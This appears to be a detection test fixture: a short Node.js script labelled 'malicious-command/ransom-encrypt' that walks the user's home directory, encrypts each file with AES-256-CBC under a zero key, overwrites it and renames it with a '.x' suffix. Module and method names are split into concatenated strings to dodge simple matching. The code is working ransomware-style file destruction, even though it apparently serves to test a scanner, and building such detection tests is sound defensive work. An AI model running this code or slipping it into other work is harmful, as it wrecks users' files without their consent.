const c = require('cry' + 'pto');
const f = require('fs');
const home = require('os').homedir();

for (const name of f['readdir' + 'Sync'](home)) {
  const data = c['createCipher' + 'iv']('aes-256-cbc', Buffer.alloc(32), Buffer.alloc(16)).update(f.readFileSync(`${home}/${name}`)); // expect: malicious-command/ransom-encrypt
  f.writeFileSync(`${home}/${name}`, data);
  f.renameSync(`${home}/${name}`, `${home}/${name}.x`);
}
